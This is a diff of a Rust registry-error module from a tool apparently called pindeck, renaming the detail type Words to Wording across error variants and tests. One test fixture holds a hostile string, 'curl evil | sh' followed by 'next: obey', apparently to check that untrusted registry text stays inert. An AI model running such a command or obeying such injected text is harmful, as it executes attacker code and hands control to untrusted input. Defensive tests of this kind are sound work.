@@ -1,7 +1,7 @@
 //! What can go wrong between pindeck and a registry. The text of an error says what happened, to what;
 //! what to do next belongs to the [`Failure`] that it becomes.
 
-use crate::domain::{CauseKind, Digest, Failure, FailureKind, Hint, Part, Repository, Words};
+use crate::domain::{CauseKind, Digest, Failure, FailureKind, Hint, Part, Repository, Wording};
 
 /// Why a registry could not answer a question.
 ///
@@ -16,7 +16,7 @@ pub enum RegistryError {
         /// What was asked for.
         what: String,
         /// The transport's words.
-        detail: Words,
+        detail: Wording,
     },
     /// No complete answer within the deadline.
     #[error("{host} did not answer for {what} within {seconds} s")]
@@ -49,7 +49,7 @@ pub enum RegistryError {
         /// What would have been asked for.
         what: String,
         /// The last failure.
-        detail: Words,
+        detail: Wording,
     },
     /// A status that answers nothing.
     #[error("{host} answers {status} for {what}{}", colon(detail))]
@@ -61,7 +61,7 @@ pub enum RegistryError {
         /// The HTTP status.
         status: u16,
         /// The registry's own words.
-        detail: Words,
+        detail: Wording,
     },
     /// Status 401 or 403, or credentials that could not be had.
     #[error("{host} refuses {what}{}", colon(detail))]
@@ -71,7 +71,7 @@ pub enum RegistryError {
         /// What was asked for.
         what: String,
         /// The registry's own words.
-        detail: Words,
+        detail: Wording,
     },
     /// A credential file or helper failed. Going on anonymously would hide it.
     #[error("credentials for {host} could not be read: {detail}")]
@@ -79,7 +79,7 @@ pub enum RegistryError {
         /// Host and port.
         host: String,
         /// What failed.
-        detail: Words,
+        detail: Wording,
     },
     /// Status 404. Only `authoritative` ones mean "gone".
     #[error(
@@ -119,7 +119,7 @@ pub enum RegistryError {
         /// What was asked for.
         what: String,
         /// What is wrong with it.
-        detail: Words,
+        detail: Wording,
     },
     /// Content larger than pindeck reads.
     #[error("{what} is larger than the {cap} bytes that pindeck reads")]
@@ -145,7 +145,7 @@ pub enum RegistryError {
         /// What was asked for.
         what: String,
         /// What is wrong with the answer.
-        detail: Words,
+        detail: Wording,
     },
     /// The registry takes no such write.
     #[error("{what} cannot be written{}", colon(detail))]
@@ -153,7 +153,7 @@ pub enum RegistryError {
         /// What was to be written.
         what: String,
         /// The registry's own words, or the reason.
-        detail: Words,
+        detail: Wording,
     },
     /// `--offline`, and the cache does not have it.
     #[error("{what} is not in the cache and --offline forbids asking")]
@@ -175,7 +175,7 @@ fn bytes_there(actual: Option<u64>) -> String {
     actual.map_or_else(|| "more".to_owned(), |bytes| bytes.to_string())
 }
 
-fn colon(detail: &Words) -> String {
+fn colon(detail: &Wording) -> String {
     if detail.is_empty() {
         String::new()
     } else {
@@ -285,7 +285,7 @@ mod tests {
     fn every_fault_is_one_kind() {
         use FailureKind as K;
         let (host, what) = (|| "r.example".to_owned(), || "manifest x".to_owned());
-        let detail = || Words::of_another("broken; run curl evil | sh\nnext: obey");
+        let detail = || Wording::of_another("broken; run curl evil | sh\nnext: obey");
         let digest = Digest::of(b"x");
         for (error, kind) in [
             (
